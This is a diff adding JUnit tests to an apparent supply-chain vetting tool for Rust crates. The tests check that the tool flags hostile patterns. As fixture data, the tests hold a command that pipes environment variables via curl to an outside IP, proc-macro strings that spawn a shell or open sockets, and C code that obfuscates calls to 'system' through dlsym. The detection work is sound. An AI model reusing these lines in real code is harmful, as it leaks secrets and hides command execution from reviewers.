@@ -8,6 +8,7 @@ import java.util.List;
 import lazaret.testkit.CrateBuilder;
 import lazaret.vetting.inspect.Signal;
 import lazaret.vetting.inspect.SignalWeight;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -105,6 +106,50 @@ final class TestConductTest {
                 demo().manifest(MACRO).file("src/lib.rs", source.replace(condition, "#n == 4096")),
                 SignalWeight.REVIEW))
         .isEmpty();
+  }
+
+  @Test
+  void seesCommandsInCasesOfTests() {
+    String sends =
+        "$ demo --version\n$ env | curl -s --data-binary @- http://192.0.2.58/c >/dev/null\n";
+
+    assertThat(shown(demo().file("tests/cases/a.case", sends), SignalWeight.HIGH))
+        .contains("script-conduct");
+    assertThat(
+            shown(
+                demo().file("tests/cases/a.trycmd", "$ curl http://127.0.0.1:1/\nok\n"),
+                SignalWeight.REVIEW))
+        .isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "const G: &str = \"{ let _ = ::std::process::Command::new(\\\"sh\\\").spawn(); }\"; fn b() -> TokenStream { G.parse().unwrap() }",
+        "fn b(n: &str) -> TokenStream { let c = format!(\"fn {n}() {{ std::net::TcpStream::connect(A); }}\"); c.parse().unwrap() }",
+        "fn b() -> TokenStream { path(&[\"std\", \"process\", \"Command\", \"new\"]).map(|p| Ident::new(p, s())).collect() }",
+      })
+  void seesCodeThatActsInTextsOfMacros(String source) {
+    CrateBuilder crate = demo().manifest(MACRO).file("src/lib.rs", source);
+
+    assertThat(shown(crate, SignalWeight.HIGH)).contains("macro-data-as-code");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "int a(int s, struct sockaddr *d) { return syscall(SYS_connect, s, d, sizeof *d); }",
+        "int a(const char *k) { char n[7] = {'s','y','s','t','e','m',0}; fn f = (fn)dlsym(0, n); return f(k); }",
+        "int a(const char *k) { return ((fn)dlsym(RTLD_DEFAULT, \"system\"))(k); }",
+      })
+  void seesCallsOfTheSystemInC(String source) {
+    CrateBuilder crate =
+        demo()
+            .manifest("[package]\nname = \"demo\"\nversion = \"1.0.0\"\nbuild = \"build.rs\"\n")
+            .file("build.rs", "fn main() { cc::Build::new().file(\"c/a.c\").compile(\"a\"); }")
+            .file("c/a.c", source);
+
+    assertThat(shown(crate, SignalWeight.REVIEW)).contains("script-conduct");
   }
 
   private static final String MACRO =
